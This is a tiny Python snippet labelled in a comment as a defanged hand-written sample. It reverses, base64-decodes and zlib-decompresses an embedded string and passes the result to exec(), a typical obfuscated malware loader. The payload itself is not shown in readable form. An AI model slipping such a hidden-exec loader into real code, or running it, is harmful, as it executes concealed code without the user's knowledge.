# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))
exec((_)(b"=Q6F0FOAQw1R10LTLxS8Nl0TQF9KMrwrKJe"))
